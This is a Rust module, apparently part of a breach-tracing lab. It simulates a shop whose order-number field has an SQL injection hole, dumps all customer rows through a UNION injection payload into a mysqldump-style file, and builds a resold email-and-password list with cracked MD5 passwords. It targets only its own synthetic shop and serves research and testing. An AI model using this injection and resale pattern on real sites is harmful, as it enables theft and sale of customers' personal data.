//! Story 3: a shop, the hole in its web front, what was taken through it, and how that was sold on.

pub mod customers;
pub mod database;
pub mod forms;
pub mod front;
pub mod passwords;

use crate::http::{HttpMessage, HttpReader};
use crate::tester::Outcome;
use customers::{Customer, Customers, Random};
use database::Database;
use front::{Front, coded};
use passwords::Keeping;
use serde_json::json;
use std::fmt::Write as _;
use std::fs;
use std::net::{SocketAddr, TcpStream};
use std::path::Path;

/// Which shop it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Edition {
    /// Passwords as MD5 without salt.
    AsReported,
    /// Passwords as Argon2id. The hole is the same.
    AsPromised,
}

/// Plays the story and writes what is left of it into a folder: `package.sql`, what was taken through the hole, shaped
/// as `mysqldump` does; `resold.txt`, a copy as it was sold on; `accounts.csv`, the shop's own list after customers were
/// told to change their passwords; `truth.json`, what is so.
///
/// # Errors
/// There is no PostgreSQL here, or the folder cannot be written.
pub fn play(edition: Edition, count: u64, folder: &Path) -> Outcome<()> {
    let work = folder.join("database");
    let database = Database::start(&work)?;
    let reader = "create role visitor; grant pg_read_all_data to visitor; set role visitor; \
        set default_transaction_read_only = on";
    let keeping = if edition == Edition::AsReported { Keeping::Md5 } else { Keeping::Argon2id };
    let customers: Vec<Customer> = (1..=count).map(|number| Customers::new(2013).get(number)).collect();
    let front = Front::open(database.session("")?, database.session(reader)?, keeping, &customers)?;
    let address = front.serve()?;
    let taken = through_the_hole(address, count)?;
    fs::write(folder.join("package.sql"), package(&taken))?;
    fs::write(folder.join("resold.txt"), resold(&taken, &customers))?;
    let changed = told_to_change(address, &customers)?;
    fs::write(folder.join("accounts.csv"), front.accounts()?)?;
    let newest = customers.iter().map(|customer| customer.opened).max().unwrap_or(0);
    let truth = json!({
        "customers": count, "changed": changed, "unchanged": count - changed, "newest": newest,
        "with_resident_id": customers.iter().filter(|customer| customer.resident_id.is_some()).count(),
    });
    fs::write(folder.join("truth.json"), format!("{truth:#}\n"))?;
    drop(front);
    drop(database);
    Ok(fs::remove_dir_all(work)?)
}

/// Customers whose rows one request through the hole asks for.
const AT_ONCE: u64 = 500;

/// What anybody gets who writes a second question into the number of an order.
fn through_the_hole(address: SocketAddr, count: u64) -> Outcome<Vec<Vec<String>>> {
    let mut web = HttpReader::new(TcpStream::connect(address)?);
    let mut rows = Vec::new();
    for first in (1..=count).step_by(AT_ONCE as usize) {
        let columns =
            "user_id::text, username, password, real_name, email, mobile, coalesce(id_card, ''), reg_time::text";
        let question = format!(
            "' union all select '', concat_ws('|', {columns}) from customer \
             where user_id between {first} and {} order by 2 --",
            first + AT_ONCE - 1
        );
        HttpMessage::new(&format!("GET /order?no={} HTTP/1.1", coded(&question)))
            .header("Host", "shop.example")
            .write(web.stream())?;
        let answer = web.read()?.ok_or("the shop hung up")?;
        let text = String::from_utf8(answer.body)?;
        let found = text.lines().filter_map(|line| line.strip_prefix('\t'));
        rows.extend(found.map(|line| line.split('|').map(str::to_owned).collect::<Vec<_>>()));
    }
    rows.sort_by_key(|row| row.first().and_then(|number| number.parse::<u64>().ok()));
    Ok(rows)
}

/// The rows as `mysqldump` would have written the table.
fn package(rows: &[Vec<String>]) -> String {
    let names = ["user_id", "username", "password", "real_name", "email", "mobile", "id_card", "reg_time"];
    let mut text = "-- MySQL dump 10.13  Distrib 5.1.61\n\nCREATE TABLE `customer` (\n".to_owned();
    for name in names {
        let _ = writeln!(text, "  `{name}` varchar(255) DEFAULT NULL,");
    }
    text.push_str("  PRIMARY KEY (`user_id`)\n) ENGINE=InnoDB DEFAULT CHARSET=utf8;\n\n");
    for some in rows.chunks(1_000) {
        let rows: Vec<String> = some.iter().map(|row| format!("({})", values(row))).collect();
        let _ = writeln!(text, "INSERT INTO `customer` VALUES {};", rows.join(","));
    }
    text
}

fn values(row: &[String]) -> String {
    let value =
        |field: &String| if field.is_empty() { "NULL".to_owned() } else { format!("'{}'", field.replace('\'', "\\'")) };
    row.iter().map(value).collect::<Vec<_>>().join(",")
}

/// `mail----password`, of which those that stand in any list of common ones are cracked; some rows are missing, and some
/// are of people who were never customers.
fn resold(rows: &[Vec<String>], customers: &[Customer]) -> String {
    let mut text = String::new();
    for (row, customer) in rows.iter().zip(customers) {
        if customer.number.is_multiple_of(7) {
            continue;
        }
        let kept = row.get(2).map_or("", String::as_str);
        let is_cracked = kept.len() == 32 && customer.password.len() < 10;
        let _ = write!(text, "{}----{}\r\n", customer.email, if is_cracked { &customer.password } else { kept });
        if customer.number.is_multiple_of(9) {
            let stranger = Customers::new(9).get(customer.number);
            let _ = write!(text, "{}----{}\r\n", stranger.email, stranger.password);
        }
    }
    text
}

/// Three of four do as they are told; gives how many.
fn told_to_change(address: SocketAddr, customers: &[Customer]) -> Outcome<u64> {
    let mut web = HttpReader::new(TcpStream::connect(address)?);
    let mut random = Random(2016);
    let mut changed = 0;
    for customer in customers {
        if random.below(4) == 0 {
            continue;
        }
        let new = format!("{}-new-{}", customer.account, random.below(1_000_000));
        let fields = [("email", &customer.email), ("old", &customer.password), ("new", &new)];
        let form: Vec<String> = fields.iter().map(|(name, value)| format!("{name}={}", coded(value))).collect();
        HttpMessage::new("POST /password HTTP/1.1")
            .header("Host", "shop.example")
            .with("application/x-www-form-urlencoded", form.join("&"))
            .write(web.stream())?;
        let answer = web.read()?.ok_or("the shop hung up")?;
        changed += u64::from(answer.body == b"changed\n");
    }
    Ok(changed)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_hole_gives_everything_of_one_shop_and_of_the_other_no_password_that_can_be_read() {
        if !database::is_here() {
            return skipped();
        }
        for (edition, kept) in
            [(Edition::AsReported, "'e10adc3949ba59abbe56e057f20f883e'"), (Edition::AsPromised, "'$argon2id$v=19$")]
        {
            let folder = std::env::temp_dir().join(format!("dyetrace-lab-shop-{edition:?}-{}", std::process::id()));
            fs::create_dir_all(&folder).unwrap();
            play(edition, 120, &folder).unwrap();
            let read = |name: &str| fs::read_to_string(folder.join(name)).unwrap();
            let (package, accounts) = (read("package.sql"), read("accounts.csv"));
            let truth: serde_json::Value = serde_json::from_str(&read("truth.json")).unwrap();
            fs::remove_dir_all(&folder).unwrap();
            assert_eq!(package.matches("),(").count() + 1, 120);
            assert!(package.contains(kept), "{edition:?}");
            assert_eq!(accounts.lines().count(), 121);
            let unchanged = accounts.lines().skip(1).filter(|line| {
                let kept = line.rsplit_once(",\"").unwrap().1.trim_matches('"');
                package.contains(&format!("'{kept}'")) && edition == Edition::AsPromised
            });
            if edition == Edition::AsPromised {
                assert_eq!(unchanged.count() as u64, truth["unchanged"].as_u64().unwrap());
            }
            assert!((15..50).contains(&truth["unchanged"].as_u64().unwrap()), "{truth}");
        }
    }

    #[expect(clippy::print_stdout, reason = "a skipped test must say so")]
    fn skipped() {
        println!("skipped: no PostgreSQL here");
    }
}
